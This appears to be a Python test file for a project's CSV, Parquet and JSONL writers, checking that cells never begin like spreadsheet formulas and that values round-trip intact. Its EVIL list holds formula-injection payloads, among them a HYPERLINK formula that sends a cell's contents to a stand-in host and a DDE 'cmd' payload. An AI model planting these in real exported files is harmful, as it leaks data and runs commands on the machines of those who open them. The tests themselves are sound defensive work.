"""A stranger's text never runs in the spreadsheet of whoever opens a table, and comes back as it was."""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lookalike.records import Finding, Listing, Verdict
from lookalike.tables.files import read_rows, writing_table
from lookalike.tables.findings import FindingRow, finding_row, read_findings, write_findings
from lookalike.tables.formulas import as_written, harmless_table
from lookalike.tables.labels import read_labels, read_verdicts

STARTS = "=+-@\t\r\n＝＋－＠"
EVIL = ["=1+1", "=HYPERLINK(\"http://e.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
        "\n=1", "＝1", "-L5", "'=1", "''-L5", "=", "-"]  # fmt: skip
TAME = ["-5", "+4917055501", "-0.5", "L1", "'quoted'", "1-2", "a=b", " =1"]


def findings(**values: str) -> list[dict[str, Any]]:
    row = finding_row(Finding(Listing("L", ()), Verdict.CLEAR, "p@1", "e@1"))
    return [{**row, **dict.fromkeys(values, text)} for text in (*EVIL, *TAME)]


def test_no_cell_of_a_csv_file_begins_like_a_formula_and_all_come_back(tmp_path: Path) -> None:
    texts = [name for name, kind in FindingRow.__annotations__.items() if "str" in str(kind)]
    rows = findings(**dict.fromkeys(texts, ""))
    write_findings(rows, tmp_path / "f.csv")
    assert list(read_findings(tmp_path / "f.csv")) == rows
    with open(tmp_path / "f.csv", newline="", encoding="utf-8") as file:
        cells = [cell for line in csv.reader(file) for cell in line]
    assert {cell for cell in cells if cell.startswith(tuple(STARTS))} == {"-5", "+4917055501", "-0.5"}
    for ending in ("parquet", "jsonl"):
        write_findings(rows, tmp_path / f"f.{ending}")
        again = [line.values["title"] for line in read_rows(tmp_path / f"f.{ending}")]
        assert again == [row["title"] for row in rows], "only CSV is opened in spreadsheets"


def test_labels_made_from_a_table_name_the_same_listings_with_the_apostrophe_or_without(tmp_path: Path) -> None:
    write_findings(findings(listing_id="", image="", product_id=""), tmp_path / "f.csv")
    with (
        open(tmp_path / "f.csv", newline="", encoding="utf-8") as file,
        open(tmp_path / "l.csv", "w", newline="", encoding="utf-8") as labels,
    ):
        for number, line in enumerate(csv.reader(file)):
            csv.writer(labels).writerow([*line, "lookalike" if number == 0 else "true"])
    assert [review.listing_id for review in read_verdicts(tmp_path / "l.csv")] == [*EVIL, *TAME]
    named = read_labels(tmp_path / "l.csv")
    assert [next(iter(products)) for products in named.values()] == [*EVIL, *TAME]
    (tmp_path / "l.csv").write_text("listing_id,lookalike\n-L5,true\n")
    assert [review.listing_id for review in read_verdicts(tmp_path / "l.csv")] == ["-L5"]


def test_listings_of_others_keep_their_apostrophes(tmp_path: Path) -> None:
    (tmp_path / "l.csv").write_text("listing_id\n'=1\n")
    assert [line.values for line in read_rows(tmp_path / "l.csv")] == [{"listing_id": "'=1"}]


@given(st.lists(st.text(alphabet=st.sampled_from([*STARTS, "'", "1", ".", "a", " "]), max_size=6), min_size=1))
@settings(max_examples=300, deadline=None)
def test_any_text_comes_back_and_none_runs(texts: list[str]) -> None:
    written = harmless_table(pa.table({"text": texts}))["text"].to_pylist()
    assert [as_written(text) for text in written] == texts
    for text in written:
        with_sign = (
            text[:1] in ("+", "-") and text[1:].replace(".", "", 1).isascii() and text[1:].replace(".", "", 1).isdigit()
        )
        assert with_sign or not text.startswith(tuple(STARTS))


@pytest.mark.parametrize("ending", ["csv", "parquet", "jsonl"])
def test_nulls_and_numbers_stay_as_they_are(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"t.{ending}"
    with writing_table(path, pa.schema([("id", pa.string()), ("number", pa.float64())])) as writer:
        writer.write([{"id": "-a", "number": -0.5}, {"id": "b", "number": None}])
    first, second = (line.values for line in read_rows(path, own=True))
    assert (first["id"], float(first["number"])) == ("-a", -0.5) and second["number"] in (None, "")
